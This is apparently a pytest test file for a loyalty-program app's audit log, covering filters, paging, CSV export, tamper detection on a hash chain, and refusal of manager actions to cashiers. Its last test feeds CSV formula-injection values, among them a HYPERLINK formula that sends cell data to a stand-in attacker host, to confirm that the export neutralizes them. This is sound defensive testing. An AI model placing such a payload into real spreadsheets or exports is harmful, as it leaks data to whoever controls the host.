"""The audit log as a manager reads it: filters, CSV, the chain check, and who may do any of it."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path

import pytest

from loyalty_desktop.app import Opened, open_database
from loyalty_desktop.domain.errors import PermissionDenied
from loyalty_desktop.services import audit_view, backups, members, points, programs, staff
from loyalty_desktop.services.audit_chain import BreakKind, verify_chain
from loyalty_desktop.services.audit_view import AuditQuery
from loyalty_desktop.services.auth import LOCAL_ADMIN, Actor
from tests.conftest import FixedClock
from tests.integration.conftest import PROGRAM

PIN = "4321"


@pytest.fixture
def shop(tmp_path: Path, clock: FixedClock) -> Iterator[Opened]:
    """Two members, a manager (Mia) and a cashier (Cai); Mia adjusts one member, then the other."""
    opened = open_database(tmp_path / "shop.db", clock=clock, keys_dir=tmp_path / "keys")
    s = opened.shop
    programs.load_program(s, LOCAL_ADMIN, PROGRAM, "test")
    members.enrol(s, LOCAL_ADMIN, members.NewMember(name="甲", member_no="10000001"))
    members.enrol(s, LOCAL_ADMIN, members.NewMember(name="乙", member_no="10000002"))
    staff.add_staff(s, LOCAL_ADMIN, "Ada", "admin", PIN)
    ada = staff.sign_in(s, "Ada", PIN)
    staff.add_staff(s, ada, "Mia", "manager", PIN)
    staff.add_staff(s, ada, "Cai", "cashier", PIN)
    mia = staff.sign_in(s, "Mia", PIN)
    clock.advance(days=1)
    points.adjust(s, mia, "10000001", 50, "lost receipt", "Q-1")
    clock.advance(days=1)
    points.adjust(s, mia, "10000002", 5, "double scan", "Q-2")
    yield opened
    opened.engine.dispose()


def _mia(o: Opened) -> Actor:
    return staff.sign_in(o.shop, "Mia", PIN)


def test_entries_filter_by_staff_member_action_and_dates(shop: Opened, clock: FixedClock) -> None:
    mia = _mia(shop)
    by_mia = audit_view.audit_lines(shop.shop, mia, AuditQuery(staff="Mia")).lines
    assert [(e.member_no, e.details["points"]) for e in by_mia] == [
        ("10000002", 5),
        ("10000001", 50),
    ]
    about = audit_view.audit_lines(shop.shop, mia, AuditQuery(member="10000001")).lines
    assert [e.reason for e in about] == ["lost receipt"]
    assert audit_view.audit_lines(shop.shop, mia, AuditQuery(action="member.")).lines == ()
    day_before = clock.now() - timedelta(days=1)
    since = audit_view.audit_lines(shop.shop, mia, AuditQuery(since=clock.now())).lines
    assert [e.reason for e in since if e.action == "points.adjust"] == ["double scan"]
    until = audit_view.audit_lines(shop.shop, mia, AuditQuery(until=day_before)).lines
    assert [e.reason for e in until if e.action == "points.adjust"] == ["lost receipt"]
    choices = audit_view.audit_choices(shop.shop, mia)
    assert "Mia" in choices.staff
    assert "points.adjust" in choices.actions


def test_pages_continue_below_the_last_entry_shown(shop: Opened) -> None:
    mia = _mia(shop)
    first = audit_view.audit_lines(shop.shop, mia, limit=1)
    assert first.next is not None
    second = audit_view.audit_lines(shop.shop, mia, before=first.next, limit=1)
    assert second.lines[0].seq < first.lines[0].seq


def test_the_csv_export_holds_every_matching_entry_with_its_member_number(shop: Opened) -> None:
    export = audit_view.audit_csv(shop.shop, _mia(shop), AuditQuery(action="points."))
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert export.entries == len(rows) == 2
    assert [r["member_no"] for r in rows] == ["10000002", "10000001"]
    assert rows[1]["reason"] == "lost receipt"
    assert rows[1]["staff"] == "Mia"
    assert '"points": 50' in rows[1]["details"]


def test_the_chain_check_finds_an_entry_edited_in_the_file(shop: Opened) -> None:
    mia = _mia(shop)
    assert verify_chain(shop.shop, mia).intact
    assert shop.path is not None
    shop.engine.dispose()
    raw = sqlite3.connect(shop.path)
    seq = raw.execute("SELECT seq FROM audit WHERE reason = 'lost receipt'").fetchone()[0]
    raw.execute("UPDATE audit SET reason = 'birthday gift' WHERE seq = ?", (seq,))
    raw.commit()
    raw.close()
    verdict = verify_chain(shop.shop, mia)
    assert not verdict.intact
    assert verdict.first_break is not None
    assert (verdict.first_break.seq, verdict.first_break.kind) == (seq, BreakKind.ALTERED)


def test_the_chain_check_finds_entries_cut_off_the_end(shop: Opened) -> None:
    assert shop.path is not None
    raw = sqlite3.connect(shop.path)
    last = raw.execute("SELECT max(seq) FROM audit").fetchone()[0]
    raw.execute("DELETE FROM audit WHERE seq = ?", (last,))
    raw.commit()
    raw.close()
    verdict = verify_chain(shop.shop, _mia(shop))
    assert [(b.seq, b.kind) for b in verdict.breaks] == [(last, BreakKind.CUT_OFF)]


MANAGER_ACTIONS: dict[str, Callable[[Opened, Actor, Path], object]] = {
    "audit lines": lambda o, a, p: audit_view.audit_lines(o.shop, a),
    "audit choices": lambda o, a, p: audit_view.audit_choices(o.shop, a),
    "audit csv": lambda o, a, p: audit_view.audit_csv(o.shop, a),
    "verify chain": lambda o, a, p: verify_chain(o.shop, a),
    "back up": lambda o, a, p: backups.back_up(o.shop, a),
    "list backups": lambda o, a, p: backups.list_backups(o.shop, a),
    "keep": lambda o, a, p: backups.set_keep(o.shop, a, 3),
    "check a backup": lambda o, a, p: backups.check_backup(o.shop, a, p),
    "restore": lambda o, a, p: backups.restore_backup(o.shop, a, p),
}


@pytest.mark.parametrize("action", list(MANAGER_ACTIONS))
def test_a_cashier_is_refused_every_audit_and_backup_action(
    shop: Opened, tmp_path: Path, action: str
) -> None:
    good = backups.back_up(shop.shop, LOCAL_ADMIN).path
    cashier = staff.sign_in(shop.shop, "Cai", PIN)
    with pytest.raises(PermissionDenied) as refused:
        MANAGER_ACTIONS[action](shop, cashier, good)
    assert refused.value.reason == "role_too_low"


def test_the_daily_backup_is_a_chore_any_signed_in_till_may_start(shop: Opened) -> None:
    cashier = staff.sign_in(shop.shop, "Cai", PIN)
    assert backups.backup_if_due(shop.shop, cashier).made is not None


@pytest.mark.parametrize(
    "reason",
    ['=HYPERLINK("http://evil.example/?"&A1,"receipt")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"],
)
def test_the_csv_export_never_hands_excel_a_formula(
    shop: Opened, reason: str, clock: FixedClock
) -> None:
    # A reason is typed by staff; Excel opening the export must show it as text, never run it.
    mia = _mia(shop)
    points.adjust(shop.shop, mia, "10000001", 1, reason, "Q-formula")
    export = audit_view.audit_csv(shop.shop, mia, AuditQuery(action="points."))
    rows = list(csv.DictReader(io.StringIO(export.text)))
    cell = rows[0]["reason"]
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert cell.endswith(reason.strip())
    assert rows[0]["seq"].isdigit()
